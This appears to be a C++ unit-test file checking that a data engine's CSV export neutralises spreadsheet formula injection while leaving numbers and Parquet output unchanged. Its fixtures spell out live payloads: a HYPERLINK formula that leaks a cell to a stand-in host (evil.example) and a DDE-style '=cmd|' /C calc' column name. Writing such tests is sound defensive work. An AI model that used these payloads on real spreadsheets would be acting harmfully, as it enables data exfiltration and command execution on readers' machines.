// CSV formula injection (issue 12, item 11): a text cell another party chose must reach the
// reader's spreadsheet as text, never as a formula; numbers must stay numbers.
#include "engine/csv_cells.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "common/crypto.h"
#include "engine/protected_run.h"

namespace cleanroom {
namespace {
namespace fs = std::filesystem;

TEST(CsvCells, ATextStartingLikeAFormulaGetsALeadingQuote) {
  for (std::string s : {"=1+2", "+1", "-1", "@SUM(A1)", "\t=x", "\r=x", "=HYPERLINK(\"http://e\")"})
    EXPECT_EQ(engine::neutralised_cell(s), "'" + s) << s;
  for (std::string s : {"", "a=b", " =x", "'=x", "1-2", "gold", "\n=x"})
    EXPECT_EQ(engine::neutralised_cell(s), s) << s;
}

struct CsvResult : ::testing::Test {
  std::string dir, parquet, output;
  void SetUp() override {
    dir = (fs::temp_directory_path() / ("cleanroom-csv-" + crypto::uuid4())).string();
    fs::create_directories(dir);
    parquet = dir + "/dims.parquet";
    auto e = engine::Engine::open({}).value();
    // A partner's dimension holding every formula trigger, beside numbers and a safe text.
    ASSERT_TRUE(e->connection()
                    .run("COPY (SELECT * FROM (VALUES "
                         "(1, '=HYPERLINK(\"http://evil.example/?d=\"&B2,\"x\")', -5, -1.5), "
                         "(2, '+1', 3, 2.5), (3, '-2', -7, 0.0), (4, '@SUM(A1)', 0, -0.25), "
                         "(5, chr(9) || '=1', 1, 1.0), (6, chr(13) || '=2', 2, 2.0), "
                         "(7, 'gold', -1, -1.0), (8, NULL, NULL, NULL)) t(id, dim, n, d)) TO '" +
                         parquet + "' (FORMAT parquet)")
                    .ok());
  }
  void TearDown() override { fs::remove_all(dir); }

  std::string run(const std::string& sql, engine::ResultFormat format = engine::ResultFormat::Csv) {
    output = dir + (format == engine::ResultFormat::Csv ? "/result.csv" : "/result.parquet");
    engine::ProtectedRun r;
    r.sql = sql;
    r.tables = {{"dims", {"id", "dim", "n", "d"}, parquet}};
    r.output_path = output;
    r.format = format;
    r.threads = 1;
    r.memory_limit = "512MB";
    engine::RunControl control;
    auto ran = engine::run_protected(r, control);
    EXPECT_TRUE(ran.ok()) << ran.error().message;
    std::ifstream in(output, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
  }
};

TEST_F(CsvResult, TextCellsAreNeutralisedAndNumbersStayNumbers) {
  EXPECT_EQ(run("SELECT dim, n, d FROM dims ORDER BY id"),
            "dim,n,d\n"
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"x\"\")\",-5,-1.50\n"
            "'+1,3,2.50\n"
            "'-2,-7,0.00\n"
            "'@SUM(A1),0,-0.25\n"
            "'\t=1,1,1.00\n"
            "\"'\r=2\",2,2.00\n"
            "gold,-1,-1.00\n"
            ",,\n");
}

TEST_F(CsvResult, ColumnNamesChosenByTheAnalystAreNeutralisedToo) {
  EXPECT_EQ(run("SELECT n AS \"=cmd|' /C calc'!A0\", dim AS \"@x\", id AS \"a-b\" FROM dims "
                "WHERE id = 7"),
            "'=cmd|' /C calc'!A0,'@x,a-b\n-1,gold,7\n");
}

TEST_F(CsvResult, TextOfOtherTypesIsNeutralisedAndNestedValuesAreLeftAlone) {
  EXPECT_EQ(run("SELECT CAST(dim AS BLOB) AS b, [dim] AS l, CAST(n AS VARCHAR) AS v, "
                "CAST(n AS DECIMAL(4,1)) AS dec FROM dims WHERE id = 3"),
            "b,l,v,dec\n'-2,[-2],'-7,-7.0\n");
}

TEST(CsvCells, ColumnsAreTakenByPositionSoRepeatedNamesKeepTheirPlace) {
  auto e = engine::Engine::open({}).value();
  auto& con = e->connection();
  const std::string sql = "SELECT '-1' AS a, 2 AS a, '@3' AS a";
  auto columns = engine::describe(con, sql);
  ASSERT_TRUE(columns.ok()) << columns.error().message;
  auto r = con.query(engine::csv_safe_select(sql, *columns));
  ASSERT_TRUE(r.ok()) << r.error().message;
  ASSERT_EQ(r->column_count(), 3u);
  for (size_t i = 0; i < 3; ++i) EXPECT_EQ(r->column_name(i), "a");
  auto rows = r->rows();
  ASSERT_TRUE(rows.ok());
  EXPECT_EQ(std::get<std::string>((*rows)[0][0]), "'-1");
  EXPECT_EQ(std::get<int64_t>((*rows)[0][1]), 2);
  EXPECT_EQ(std::get<std::string>((*rows)[0][2]), "'@3");
}

TEST_F(CsvResult, ParquetResultsAreUntouched) {
  run("SELECT dim FROM dims WHERE id = 1", engine::ResultFormat::Parquet);
  auto e = engine::Engine::open({}).value();
  auto r = e->connection().query("SELECT dim FROM read_parquet('" + output + "')");
  ASSERT_TRUE(r.ok());
  auto rows = r->rows();
  ASSERT_TRUE(rows.ok());
  ASSERT_EQ(rows->size(), 1u);
  EXPECT_EQ(std::get<std::string>((*rows)[0][0]),
            "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"x\")");
}

}  // namespace
}  // namespace cleanroom
